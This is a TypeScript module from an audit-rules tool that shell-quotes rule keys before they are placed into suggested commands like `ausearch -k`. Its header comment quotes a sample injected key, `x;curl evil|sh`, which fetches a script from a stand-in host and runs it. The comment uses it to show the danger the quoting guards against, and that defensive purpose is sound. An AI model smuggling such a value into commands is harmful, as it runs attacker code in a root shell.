/**
 * Words quoted for a shell, for the commands the tools suggest (`ausearch -k KEY`): a
 * rules file can hold a key such as `x;curl evil|sh`, which pasted unquoted into a root
 * shell runs something else.
 */
import { hasHiddenCharacters, visibleText } from './visibleText';

/** Characters a POSIX shell passes through in an unquoted word. */
const plainShellWord = /^[A-Za-z0-9_@%+=:,./-]+$/;

/**
 * A word quoted for a POSIX shell, so a pasted command passes it as one argument and runs
 * nothing else: single quotes (a `'` inside becomes `'\''`), or bash's `$'...'` form when
 * the word holds control characters, which single quotes would pass on unseen.
 */
export function shellWord(word: string): string {
  if (plainShellWord.test(word)) return word;
  if (!hasHiddenCharacters(word)) return `'${word.replace(/'/g, `'\\''`)}'`;
  // Inside $'...' bash reads \\ \' and \xHH; visibleText writes the last.
  return `$'${visibleText(word.replace(/[\\']/g, '\\$&'))}'`;
}

/**
 * Whether the word from `from` on holds only characters a shell passes through unquoted
 * (as `plainShellWord`): most keys do, and the line check asks for every key.
 */
export function isPlainShellWord(word: string, from = 0): boolean {
  if (from >= word.length) return false;
  for (let i = from; i < word.length; i++) {
    const code = word.charCodeAt(i);
    const plain = (code >= 0x61 && code <= 0x7a) || (code >= 0x41 && code <= 0x5a) ||
      (code >= 0x2b && code <= 0x3a) || code === 0x5f || code === 0x40 || code === 0x25 ||
      code === 0x3d;
    if (!plain) return false;
  }
  return true;
}

/** The characters of a word that a shell would act on unquoted, each once, in order. */
export function shellCharacters(word: string): string[] {
  return [...new Set(word.match(/[\s`$;&|<>()\\'"*?[\]{}!]/g) ?? [])];
}
